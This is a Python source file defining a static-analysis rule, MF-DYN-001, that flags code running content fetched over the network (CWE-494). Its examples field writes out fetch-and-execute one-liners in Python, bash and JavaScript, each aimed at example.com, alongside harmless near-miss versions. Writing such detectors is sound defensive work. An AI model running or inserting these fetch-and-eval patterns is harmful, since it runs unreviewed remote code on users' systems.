"""MF-DYN-001."""

from __future__ import annotations

from mayfly.scan.facts import CodeRun
from mayfly.scan.rule import Hit, Rule, Scene

__all__ = ["RULE"]


def _check(fact: CodeRun, _scene: Scene) -> Hit | None:
    if "net" not in fact.value.taints or fact.harmless:
        return None
    return Hit(f"{fact.how} of something that came over the network")


RULE = Rule(
    id="MF-DYN-001",
    title="Runs code from the network",
    rationale="What is fetched is run: nobody can have looked at it.",
    severity="critical",
    cwe="CWE-494",
    confidence="high",
    capabilities=("net", "dynamic-code"),
    facts=(CodeRun,),
    check=_check,
    examples={
        "python": "import requests\nexec(requests.get('https://example.com/x').text)",
        "bash": 'eval "$(curl https://example.com/x)"',
        "javascript": "fetch('https://example.com').then(r => r.text()).then(t => eval(t))",
    },
    near_misses={
        "python": "import requests\nprint(requests.get('https://example.com/x').text)",
        "bash": 'echo "$(curl https://example.com/x)"',
        "javascript": "fetch('https://example.com').then(r => r.text()).then(t => console.log(t))",
    },
    languages=("python", "bash", "javascript"),
)
